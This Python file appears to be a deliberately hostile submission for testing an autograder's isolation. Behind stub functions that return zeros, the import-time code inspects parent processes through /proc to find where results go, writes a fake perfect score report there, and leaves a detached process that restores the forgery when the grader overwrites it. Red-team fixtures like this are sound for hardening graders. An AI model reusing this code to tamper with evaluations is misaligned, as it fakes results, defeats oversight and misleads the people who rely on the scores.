"""BPGRADE-HOSTILE submission for exercise01 (attack: fake_results).

Every function returns zeros. While it is imported, the file tries to write a "perfect" report
(10 of 10, every check passed) wherever a grader might keep its results:

- /autograder/results/results.json (Gradescope's path), if that folder exists;
- any path given to an ancestor process as `--output PATH`, `--output=PATH`, `-o PATH`,
  `--results PATH`, `--json-output PATH` or `--out PATH`, found by walking up
  /proc/<pid>/status (PPid) and reading each /proc/<pid>/cmdline (relative paths resolved
  against /proc/<pid>/cwd), or in a variable of its environment whose name holds OUTPUT or
  RESULT, such as BPGRADE_OUTPUT (/proc/<pid>/environ);
- the standard output of each ancestor when it is a regular .json file or a pipe (the
  `bpgrade check --json > results.json` and `| upload` cases), through /proc/<pid>/fd/1;
- results.json in the current folder, and in every parent folder and every ancestor's working
  folder where a results.json already exists.

Then it leaves a detached process (double fork, setsid) that, for 30 s, puts the fake report
back whenever a report without the marker replaces it, and writes it into any of those .json
paths that appears later (a results folder the grader only creates at the end), so that a
report the grader writes after the run is overwritten again.

Every write contains the marker (BPGRADE-HOSTILE- followed by MARKER, assembled at run time so
that this source does not contain it). Nothing is deleted. A file is only written when it is a
grader's results: an existing file that is empty or a JSON object with a "score", or a new file
whose name ends in .json (so `ssh -o Option=x` in an ancestor's command line creates nothing).
A pipe is written without blocking. Every attempt is wrapped, so the file always imports.

The grader must keep its results out of the learner's reach (a different user, no access to
the grader's processes or files) and kill everything the learner started before it writes its
report. Its honest part, zeros, earns 0 of 10. Needs root to be contained.
"""

import contextlib
import json
import os
import stat
import sys
import time

MARKER = "BPGRADE-HOSTILE-" + "MARKER"
OUTPUT_FLAGS = ("--output", "-o", "--results", "--json-output", "--out")
LINGER_SECONDS = 30.0


def _fake_report() -> str:
    checks = [
        {
            "name": name,
            "title": name,
            "passed": True,
            "score": points,
            "max_score": points,
            "message": MARKER,
            "diagnosis": None,
        }
        for name, points in (
            ("neuron_loss", 2.0),
            ("local_derivatives.dL_da", 1.0),
            ("local_derivatives.da_dz", 1.0),
            ("local_derivatives.dz_dw", 1.0),
            ("neuron_gradients.dL_dw", 2.0),
            ("neuron_gradients.dL_db", 1.0),
            ("descent_step.w", 1.0),
            ("descent_step.b", 1.0),
        )
    ]
    report = {
        "score": 10.0,
        "max_score": 10.0,
        "exercises": [
            {
                "name": "exercise01",
                "title": "One neuron and the chain rule",
                "file": "exercise01_chain_rule.py",
                "status": "passed",
                "score": 10.0,
                "max_score": 10.0,
                "checks": checks,
                "error": None,
                "output": MARKER,
            }
        ],
        "notes": [MARKER],
        # Gradescope's fields, for a platform that reads this file directly
        "tests": [{"name": MARKER, "score": 10.0, "max_score": 10.0}],
        "output": MARKER,
    }
    return json.dumps(report) + "\n"


def _read(path: str) -> bytes:
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


def _parent_of(pid: int) -> int:
    for line in _read(f"/proc/{pid}/status").decode(errors="replace").splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


def _ancestors() -> list[int]:
    chain = []
    pid = os.getppid()
    while pid > 1 and len(chain) < 32:
        chain.append(pid)
        pid = _parent_of(pid)
    return chain


def _cwd_of(pid: int) -> str | None:
    try:
        return os.readlink(f"/proc/{pid}/cwd")
    except OSError:
        return None


def _output_paths(pid: int) -> list[str]:
    args = [a.decode(errors="replace") for a in _read(f"/proc/{pid}/cmdline").split(b"\0") if a]
    found = []
    for i, arg in enumerate(args):
        for flag in OUTPUT_FLAGS:
            if arg == flag and i + 1 < len(args):
                found.append(args[i + 1])
            elif flag.startswith("--") and arg.startswith(flag + "="):
                found.append(arg.split("=", 1)[1])
    cwd = _cwd_of(pid)
    return [p if os.path.isabs(p) or cwd is None else os.path.join(cwd, p) for p in found]


def _environ_paths(pid: int) -> list[str]:
    """Values of variables such as BPGRADE_OUTPUT or RESULTS_FILE in the ancestor's environment."""
    found = []
    for entry in _read(f"/proc/{pid}/environ").split(b"\0"):
        name, _, value = entry.decode(errors="replace").partition("=")
        if value and any(word in name.upper() for word in ("OUTPUT", "RESULT")):
            found.append(value)
    cwd = _cwd_of(pid)
    return [p if os.path.isabs(p) or cwd is None else os.path.join(cwd, p) for p in found]


def _stdout_target(pid: int) -> str | None:
    """The ancestor's fd 1 when it is a results file (.json, by its path) or a pipe (by its
    /proc link); never a terminal."""
    link = f"/proc/{pid}/fd/1"
    try:
        target = os.readlink(link)
        mode = os.stat(link).st_mode
    except OSError:
        return None
    if stat.S_ISFIFO(mode):
        return link
    if stat.S_ISREG(mode) and target.endswith(".json") and os.path.isabs(target):
        return target
    return None


def _looks_like_report(path: str) -> bool:
    """Empty, or a JSON object with a score: a grader's results, never someone's data."""
    data = _read(path)
    if not data.strip():
        return True
    try:
        report = json.loads(data)
    except ValueError:
        return False
    return isinstance(report, dict) and "score" in report


def _is_pipe(path: str) -> bool:
    try:
        return stat.S_ISFIFO(os.stat(path).st_mode)
    except OSError:
        return False


def _acceptable(path: str) -> bool:
    """A results file: an existing report, or a new .json file in an existing folder."""
    if os.path.exists(path):
        return os.path.isfile(path) and _looks_like_report(path)
    return path.endswith(".json") and os.path.isdir(os.path.dirname(path) or ".")


def _targets() -> tuple[list[str], list[str]]:
    """What to write now (pipes, and results files that pass `_acceptable`), and .json paths
    named by an ancestor whose folder does not exist yet, for the rewriter to watch."""
    files = []
    pipes = []
    if os.path.isdir("/autograder/results"):
        files.append("/autograder/results/results.json")
    folders = []
    for pid in _ancestors():
        files.extend(_output_paths(pid))
        files.extend(_environ_paths(pid))
        stdout = _stdout_target(pid)
        if stdout is not None:
            (pipes if stdout.startswith("/proc/") else files).append(stdout)
        cwd = _cwd_of(pid)
        if cwd is not None:
            folders.append(cwd)
    here = os.getcwd()
    files.append(os.path.join(here, "results.json"))
    parent = os.path.dirname(here)
    while parent and parent != os.path.dirname(parent):
        folders.append(parent)
        parent = os.path.dirname(parent)
    for folder in folders:
        candidate = os.path.join(folder, "results.json")
        if os.path.isfile(candidate):  # in other folders, only reports that already exist
            files.append(candidate)
    now: list[str] = []
    for target in [*pipes, *(f for f in files if _acceptable(f))]:
        if target not in now:
            now.append(target)
    later = [f for f in files if f not in now and f.endswith(".json") and not os.path.exists(f)]
    return now, later


def _write(path: str, text: str) -> bool:
    if not _is_pipe(path):
        return _write_file(path, text)
    # a pipe: add a report to the stream, without ever blocking on a full pipe
    try:
        fd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        return False
    try:
        os.write(fd, text.encode())
        return True
    except OSError:
        return False
    finally:
        os.close(fd)


def _write_file(path: str, text: str) -> bool:
    try:
        with open(path, "w") as file:
            file.write(text)
        return True
    except OSError:
        return False


def _rewrite_later(paths: list[str], text: str) -> None:
    """A detached process that puts the fake report back whenever the grader overwrites it."""
    files = [p for p in paths if not p.startswith("/proc/")]
    if not files:
        return
    try:
        pid = os.fork()
    except OSError:
        return
    if pid != 0:
        with contextlib.suppress(OSError):
            os.waitpid(pid, 0)
        return
    try:  # the child: never return into the grader's code
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        null = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(null, fd)
        deadline = time.monotonic() + LINGER_SECONDS
        while time.monotonic() < deadline:
            for path in files:
                if (
                    os.path.isfile(path)
                    and MARKER.encode() not in _read(path)
                    and _looks_like_report(path)
                ):
                    _write_file(path, text)
            time.sleep(0.2)
    except BaseException:
        pass
    finally:
        os._exit(0)


def _attack() -> None:
    text = _fake_report()
    now, later = _targets()
    written = [path for path in now if _write(path, text)]
    print(f"fake_results wrote {written}, watches {later}", file=sys.stderr)
    _rewrite_later([*written, *later], text)


with contextlib.suppress(Exception):
    _attack()


def sigmoid(z: float) -> float:
    return 0.0


def neuron_loss(w: float, b: float, x: float, y: float) -> float:
    return 0.0


def local_derivatives(w: float, b: float, x: float, y: float) -> tuple[float, float, float]:
    return 0.0, 0.0, 0.0


def neuron_gradients(w: float, b: float, x: float, y: float) -> tuple[float, float]:
    return 0.0, 0.0


def descent_step(w: float, b: float, x: float, y: float, lr: float) -> tuple[float, float]:
    return 0.0, 0.0
